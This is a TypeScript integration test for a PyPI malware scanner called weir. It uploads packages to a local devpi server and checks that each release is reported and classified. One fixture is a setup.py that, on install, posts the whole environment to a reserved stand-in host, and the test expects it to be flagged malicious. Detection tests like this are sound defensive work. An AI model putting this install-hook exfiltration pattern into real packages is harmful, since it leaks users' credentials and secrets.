import { configureAnalyzer } from '@weir/analyzer';
import { PYPI_DEFAULTS } from '@weir/feeder';
import type { AnyEvent } from '@weir/model';
import { createPypiFeed, createRequests, unlimitedAllowance } from '@weir/registries';
import { startPypiStandIn } from '@weir/registries/pypi/stand-in';
import { startTestPostgres, type TestPostgres } from '@weir/store/testing';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { startProgram } from '../lib/program.ts';
import { type Devpi, startDevpi } from './lib/devpi.ts';
import { type Following, PATIENCE, QUICK, startFollowing } from './lib/follower.ts';
import { createPipClient, type PipClient } from './lib/pip-client.ts';
import { missingPython, openPythonTools } from './lib/python.ts';

const why = await missingPython();
const MODULE = { 'acme_tool/__init__.py': 'def add(a, b):\n    return a + b\n' };
/** Inert: the host is a reserved one, and nobody builds it. */
const BAD = {
  'setup.py': [
    'import os, urllib.request',
    "urllib.request.urlopen('https://collect.weir.invalid/in', data=str(dict(os.environ)).encode())",
    'from setuptools import setup',
    "setup(name='acme-bad', version='1.0')",
    '',
  ].join('\n'),
};

function lineOf(event: AnyEvent): string {
  if (event.type === 'verdict.recorded.v1') throw new TypeError('the feeder gives no verdicts');
  const { name, version } = event.type === 'release.published.v1' ? event.data.release : event.data;
  const file = event.type === 'release.published.v1' ? event.data.file.filename : event.data.filename;
  return `${event.type.split('.')[1]} ${name}@${version ?? '*'} ${file ?? '*'}`;
}

describe.skipIf(why !== null)(`PyPI by devpi, pip and twine${why === null ? '' : `: ${why}`}`, () => {
  const stack = new AsyncDisposableStack();
  let postgres: TestPostgres;
  let devpi: Devpi;
  let pip: PipClient;

  beforeAll(async () => {
    const python = await openPythonTools();
    postgres = stack.use(await startTestPostgres());
    devpi = stack.use(await startDevpi(python));
    pip = stack.use(await createPipClient(python, devpi));
  }, 300_000);
  afterAll(() => stack.disposeAsync());

  /** Weir that follows devpi by its list of names; RSS, which devpi has not, comes empty from the stand-in. */
  async function follow(): Promise<Following> {
    const quiet = stack.use(await startPypiStandIn());
    const addresses = { simple: devpi.simple, json: null, rss: `${quiet.url}/rss` };
    const config = {
      feeder: {
        ...PYPI_DEFAULTS,
        ...QUICK,
        sweep: { enabled: true, everyMs: 200 },
        goneAfterMs: 200,
        watched: { ...PYPI_DEFAULTS.watched, everyMs: 300, listEveryMs: 200, perMinute: 600 },
        bases: { index: devpi.origin, files: devpi.origin },
      },
      analyzer: configureAnalyzer({ WEIR_PYPI_FILES_URL: devpi.origin, WEIR_WORKERS: 1 }),
    };
    const following = stack.use(
      await startFollowing(await postgres.createDatabase(), config, ({ http, clock, random }) => {
        const requests = createRequests({ http, clock, random, allowance: unlimitedAllowance });
        return createPypiFeed({ addresses, requests, clock });
      }),
    );
    await vi.waitFor(
      async () =>
        expect((await following.platform.store.sweeps.find('pypi'))?.baselineAt).toBeInstanceOf(Date),
      PATIENCE,
    );
    return following;
  }

  it('sees what twine uploads, files that join later too, and judges each', async () => {
    await pip.uploadWheel('was-there', '1.0', { 'was_there.py': 'x = 1\n' });
    const weir = await follow();
    const expectTold = (lines: readonly string[]): Promise<unknown> =>
      vi.waitFor(() => expect(weir.events.map(lineOf).toSorted()).toEqual([...lines].toSorted()), PATIENCE);

    const wheel = await pip.uploadWheel('acme-tool', '1.0', MODULE);
    await expectTold([`published acme-tool@1.0 ${wheel}`]);
    const late = await pip.uploadSdist('acme-tool', '1.0', {
      'setup.py':
        "from setuptools import setup\nsetup(name='acme-tool', version='1.0', packages=['acme_tool'])\n",
      ...MODULE,
    });
    const bad = await pip.uploadSdist('acme-bad', '1.0', BAD);
    const told = [wheel, late].map((file) => `published acme-tool@1.0 ${file}`);
    await expectTold([...told, `published acme-bad@1.0 ${bad}`]);
    await vi.waitFor(
      async () =>
        expect(await weir.verdicts()).toEqual([
          'pkg:pypi/acme-bad@1.0: malicious',
          'pkg:pypi/acme-tool@1.0: benign',
          'pkg:pypi/acme-tool@1.0: benign',
        ]),
      PATIENCE,
    );

    const published = weir.events.find(
      (event) => event.type === 'release.published.v1' && event.data.file.filename === wheel,
    );
    if (published?.type !== 'release.published.v1') throw new TypeError('no such event');
    expect(published.data.file.digests.sha256).toBe(await pip.downloadWheel('acme-tool', '1.0'));
  });

  it('is read by weir scan as pip reads it', async () => {
    await pip.uploadWheel('scanned', '2.0', { 'scanned.py': 'x = 1\n' });
    await pip.uploadSdist('scanned', '2.0', BAD);
    await pip.uploadWheel('scanned', '1.0', { 'scanned.py': 'x = 0\n' });

    const results = await Promise.all(
      ['pypi:scanned==1.0', 'pypi:Scanned', 'pypi:scanned==3'].map(async (target) => {
        const program = startProgram(['scan', target, '--format', 'ndjson'], pip.env);
        const { code } = await program.exit;
        const line = program
          .output()
          .split('\n')
          .find((text) => text.startsWith('{'));
        return [code, JSON.parse(line ?? '{}') as Record<string, unknown>] as const;
      }),
    );

    expect(results).toMatchObject([
      [0, { purl: 'pkg:pypi/scanned@1.0', verdict: 'benign', error: null }],
      [1, { purl: 'pkg:pypi/scanned@2.0', verdict: 'malicious', complete: true, error: null }],
      [2, { verdict: null, error: expect.stringContaining('its newest is 2.0') }],
    ]);
    expect(results[1]?.[1].artifacts).toHaveLength(2);
  });
});
